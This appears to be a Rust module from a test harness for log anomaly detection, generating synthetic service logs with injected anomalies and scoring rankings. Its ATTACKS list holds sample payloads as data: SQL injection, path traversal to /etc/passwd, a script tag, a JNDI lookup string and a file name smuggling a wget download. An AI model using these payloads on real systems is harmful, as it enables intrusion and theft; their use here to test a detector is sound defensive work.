//! How well single lines are told apart: a log with its labels beside it, and generated service logs
//! with anomalies of many kinds put in.

use radar_engine::random::SplitMix64;

use super::metrics;

/// The figures of one ranking.
#[derive(Clone, Debug)]
pub(super) struct Quality {
    pub(super) items: usize,
    pub(super) anomalies: usize,
    pub(super) average_precision: f64,
    pub(super) auc: f64,
    pub best_f1: f64,
    /// At 10, 50 and 100 alerts.
    pub(super) precision: [f64; 3],
}

impl Quality {
    pub(super) fn of(scores: &[f32], labels: &[bool]) -> Self {
        Self {
            items: labels.len(),
            anomalies: labels.iter().filter(|label| **label).count(),
            average_precision: metrics::average_precision(scores, labels),
            auc: metrics::auc(scores, labels),
            best_f1: metrics::best_f1(scores, labels).0,
            precision: [10, 50, 100].map(|budget| metrics::precision_at(budget, scores, labels)),
        }
    }
}

/// `line,label,…` with a header: true for every line whose label is not 0.
pub(super) fn labels(csv: &str) -> Vec<bool> {
    let label = |row: &str| row.split(',').nth(1).is_some_and(|label| label.trim() != "0");
    csv.lines().skip(1).filter(|row| !row.is_empty()).map(label).collect()
}

/// What is wrong with an anomalous service line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Injected {
    SlowResponse,
    ForeignAddress,
    Attack,
    UnknownUser,
    RareMessage,
    ErrorBurst,
    UnusualHour,
    HugeTransfer,
    WrongService,
}

impl Injected {
    pub(super) const ALL: [Self; 9] = [
        Self::SlowResponse,
        Self::ForeignAddress,
        Self::Attack,
        Self::UnknownUser,
        Self::RareMessage,
        Self::ErrorBurst,
        Self::UnusualHour,
        Self::HugeTransfer,
        Self::WrongService,
    ];
}

/// A service log with about `share` of its lines anomalous, of the given kinds in turn.
pub(super) fn service_log(lines: usize, share: f32, kinds: &[Injected], seed: u64) -> (Vec<String>, Vec<Option<Injected>>) {
    let mut random = SplitMix64::new(seed);
    let mut texts = Vec::with_capacity(lines);
    let mut labels = Vec::with_capacity(lines);
    // Two working weeks, ten hours a day.
    let mut second = 8 * 3600_i64;
    let pause = (10 * 3600 * 10 / lines.max(1)).max(1) as u64;
    while texts.len() < lines {
        second += random.below(pause * 2 + 1) as i64;
        if second % 86_400 > 18 * 3600 {
            second += 14 * 3600;
        }
        let kind = (!kinds.is_empty() && random.chance(share)).then(|| kinds[random.below(kinds.len() as u64) as usize]);
        // A burst is ten lines, so it is begun a tenth as often.
        let repeats = if kind == Some(Injected::ErrorBurst) { 10 } else { 1 };
        if repeats > 1 && !random.chance(0.1) {
            continue;
        }
        for _ in 0..repeats {
            texts.push(service_line(&mut random, kind, second));
            labels.push(kind);
        }
    }
    (texts, labels)
}

const SERVICES: [&str; 5] = ["auth-service", "payment-service", "catalog-api", "mail-worker", "gateway"];
const MESSAGES: [[&str; 5]; 5] = [
    ["User logged in", "Session # refreshed", "Password check passed", "Token issued for session #", "User logged out"],
    ["Payment # accepted", "Charged card ending in #", "Invoice # written", "Refund # queued", "Ledger balanced in # steps"],
    [
        "Listed # products",
        "Search returned # results",
        "Cache hit for product #",
        "Stock of product # read",
        "Price of product # read",
    ],
    ["Sent # messages", "Queue length is #", "Template # rendered", "Delivered message # to relay", "Polled # mailboxes"],
    ["GET /api/items/# 200", "POST /api/orders 201 # bytes", "GET /health 200", "PUT /api/items/# 204", "GET /static/app.js 304"],
];
const WARNINGS: [&str; 4] =
    ["Retry # of 3 for upstream", "Slow query took # steps", "Connection pool at # of 100", "Request # was refused: bad input"];
const RARE: [&str; 6] = [
    "Configuration reloaded from unknown origin",
    "Disk quota exceeded on volume data",
    "Certificate chain could not be verified",
    "Kernel reported memory corruption in page table",
    "Privileges of account were raised by hand",
    "Audit trail truncated",
];
const ATTACKS: [&str; 6] = [
    "Search for ' OR 1=1 -- returned # results",
    "GET /api/items/../../../../etc/passwd 404",
    "Search for <script>alert(#)</script> returned 0 results",
    "Login name ${jndi:ldap://198.51.100.7/a} was not accepted",
    "Search for x UNION SELECT password FROM users returned # results",
    "File name a.jpg;wget http://203.0.113.9/x.sh was not accepted",
];

fn service_line(random: &mut SplitMix64, kind: Option<Injected>, second: i64) -> String {
    let service = random.below(SERVICES.len() as u64) as usize;
    let user = random.below(30);
    let is_warning = random.chance(0.06);
    let mut message = if is_warning { pick(random, &WARNINGS) } else { pick(random, &MESSAGES[service]) };
    let mut level = match is_warning {
        true if random.chance(0.3) => "ERROR",
        true => "WARN",
        false if random.chance(0.1) => "DEBUG",
        false => "INFO",
    };
    let mut address = format!("10.{}.{}.{}", random.below(3), random.below(8), 1 + random.below(200));
    let mut name = format!("user_{user}");
    // The sum of several is bell-shaped; its power makes a long tail, as response times have.
    let bell: f32 = (0..6).map(|_| random.unit()).sum::<f32>() / 6.0;
    let mut millis = (20.0 * (bell * 4.0).exp2()) as u64;
    let mut number = random.below(900) + 1;
    let mut second = second;
    match kind {
        None => {}
        Some(Injected::SlowResponse) => millis = 8_000 + random.below(50_000),
        Some(Injected::ForeignAddress) => {
            address = format!("185.{}.{}.{}", random.below(250), random.below(250), 1 + random.below(250))
        }
        Some(Injected::Attack) => message = pick(random, &ATTACKS),
        Some(Injected::UnknownUser) => name = format!("{}{}", pick(random, &["svc-x", "guest", "root", "test"]), random.below(3)),
        Some(Injected::RareMessage) => message = pick(random, &RARE),
        Some(Injected::ErrorBurst) => (level, message) = ("CRITICAL", "Connection to database lost, request # failed"),
        Some(Injected::UnusualHour) => second = second.div_euclid(86_400) * 86_400 + 3 * 3600 + random.below(3600) as i64,
        Some(Injected::HugeTransfer) => {
            (message, number) = ("POST /api/orders 201 # bytes", 40_000_000 + random.below(900_000_000))
        }
        Some(Injected::WrongService) => (level, message) = ("ERROR", "Unhandled exception in worker thread #"),
    }
    let message = message.replace('#', &number.to_string());
    let (day, time) = (1 + second / 86_400, second % 86_400);
    let clock = format!("2026-03-{day:02} {:02}:{:02}:{:02}", time / 3600, time / 60 % 60, time % 60);
    format!("{clock} [{level}] {} - {message} | IP: {address} | User: {name} | ResponseTime: {millis}ms", SERVICES[service])
}

fn pick(random: &mut SplitMix64, from: &[&'static str]) -> &'static str {
    from[random.below(from.len() as u64) as usize]
}
